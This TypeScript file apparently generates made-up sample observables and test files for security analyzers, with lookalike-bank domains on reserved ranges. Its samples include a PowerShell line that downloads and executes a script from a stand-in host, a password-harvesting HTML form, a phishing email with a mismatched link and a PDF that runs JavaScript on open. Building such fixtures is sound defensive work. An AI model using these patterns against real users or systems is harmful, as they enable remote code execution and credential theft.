/** Made up: names and addresses of the ranges that are set aside for documentation and tests. */
const values: Readonly<Record<string, string>> = {
  ip: '198.51.100.77',
  network: '198.51.100.0/24',
  domain: 'examp1e-bank.test',
  fqdn: 'login.examp1e-bank.test',
  hostname: 'login.examp1e-bank.test',
  url: 'https://user@examp1e-bank.test:8443/login?next=https%3A%2F%2Fexample.com',
  mail: 'security@examp1e-bank.test',
  // Of the EICAR test file, which every scanner knows.
  hash: '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f',
  filename: 'statement.pdf.js',
  'user-agent': 'curl/8.5.0',
  user_agent: 'curl/8.5.0',
  'autonomous-system': 'AS64500',
  cve: 'CVE-2021-44228',
  jwt: 'eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZGEiLCJpc3MiOiJleGFtcGxlLmNvbSJ9.',
  'mail-subject': 'Your account is locked: https://examp1e-bank.test',
  mail_subject: 'Your account is locked: https://examp1e-bank.test',
  regexp: '^a+$',
  registry: 'HKEY_CURRENT_USER\\Software\\Example',
  uri_path: '/wp-login.php',
  other: 'See hxxps://examp1e-bank[.]test and 198[.]51[.]100[.]77',
}

export const sampleValue = (dataType: string): string | undefined =>
  values[dataType] ?? (dataType === 'certificate' ? certificate() : undefined)

/** Files by the built-in analyzer that reads them; the others get the mail. */
const files: Readonly<Record<string, () => File>> = {
  Archive: () =>
    fileOf(
      'statement.zip',
      fromBase64(
        'UEsDBBQAAAAAAIA5cF1uGkUKGAAAABgAAAAQAAAAc3RhdGVtZW50LnBkZi5qc1dTY3JpcHQuRWNobygnbWFkZSB1cCcpClBLAQIUAxQAAAAAAIA5cF1uGkUKGAAAABgAAAAQAAAAAAAAAAAAAACAAQAAAABzdGF0ZW1lbnQucGRmLmpzUEsFBgAAAAABAAEAPgAAAEYAAAAAAA==',
      ),
    ),
  Certificate: () => fileOf('login.pem', certificate()),
  Document: () =>
    fileOf(
      'statement.pdf',
      '%PDF-1.4\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n',
    ),
  Executable: () =>
    fileOf(
      'statement.bin',
      fromBase64(
        'f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAAeABAAAAAAABAAAAAAAAAAAAAAAAAAAAAAAAAAEAAOAABAAAAAAAAAAEAAAAFAAAAAAAAAAAAAAAAAEAAAAAAAAAAQAAAAAAAgAAAAAAAAACAAAAAAAAAAAAQAAAAAAAAsDwx/w8FkJA=',
      ),
    ),
  Page: () =>
    fileOf(
      'statement.html',
      '<form action="https://examp1e-bank.test/collect"><input type="password"></form>\n',
    ),
  Script: () =>
    fileOf(
      'statement.ps1',
      'IEX (New-Object Net.WebClient).DownloadString("https://examp1e-bank.test/a")\n',
    ),
  Shortcut: () =>
    fileOf('statement.url', '[InternetShortcut]\r\nURL=https://examp1e-bank.test/login\r\n'),
}

/** Nothing is made up for what has a shape of its own: pictures with codes, notebooks. */
const withoutSample = ['Qr', 'OneNote']

export function sampleFile(definitionId: string): File | undefined {
  const own = /^Assay_(\w+?)(?:_\d+)+$/.exec(definitionId)?.[1] ?? ''
  if (withoutSample.includes(own)) return undefined
  return (files[own] ?? mail)()
}

const mail = () =>
  fileOf(
    'account locked.eml',
    [
      'From: "Example Bank" <security@example.com>',
      'Reply-To: help@examp1e-bank.test',
      'To: ada@example.com',
      'Subject: Your account is locked',
      'Date: Mon, 16 Nov 2026 07:12:40 +0000',
      'Message-ID: <1@mailer.test>',
      'MIME-Version: 1.0',
      'Content-Type: text/html; charset=utf-8',
      '',
      '<p><a href="https://examp1e-bank.test/verify">https://www.example.com/signin</a></p>',
      '',
    ].join('\r\n'),
  )

const certificate = () =>
  [
    '-----BEGIN CERTIFICATE-----',
    'MIIBmDCCAT+gAwIBAgIUaWFdZy8+XrcM/aXPxo+6R1V+7GowCgYIKoZIzj0EAwIw',
    'IjEgMB4GA1UEAwwXbG9naW4uZXhhbXBsZS1iYW5rLnRlc3QwHhcNMjYxMTE3MDY1',
    'ODQxWhcNMjYxMjE3MDY1ODQxWjAiMSAwHgYDVQQDDBdsb2dpbi5leGFtcGxlLWJh',
    'bmsudGVzdDBZMBMGByqGSM49AgEGCCqGSM49AwEHA0IABJJjiaAxwi+AN5v5bW1O',
    'FqAlHYqYuWxP8679eGbRoFK2jIUVYaj63TYhEtSF1mvbi3HQfAeOWL9gNC8uFMbd',
    'yYmjUzBRMB0GA1UdDgQWBBTFmWxxLDJqfyYSsbs23ir9jWbbfTAfBgNVHSMEGDAW',
    'gBTFmWxxLDJqfyYSsbs23ir9jWbbfTAPBgNVHRMBAf8EBTADAQH/MAoGCCqGSM49',
    'BAMCA0cAMEQCIB9/4ZQ9Y7Uzco5Ye53U+3t4M4rsRVwl2V860k9UpI0MAiAc22uC',
    'tTJ/RrsE7kXj8OB8dJHQ9qBc4aZzgtZ9glvxjA==',
    '-----END CERTIFICATE-----',
    '',
  ].join('\n')

const fileOf = (name: string, content: string | Uint8Array<ArrayBuffer>) =>
  new File([content], name)

const fromBase64 = (text: string) => Uint8Array.from(atob(text), (letter) => letter.charCodeAt(0))
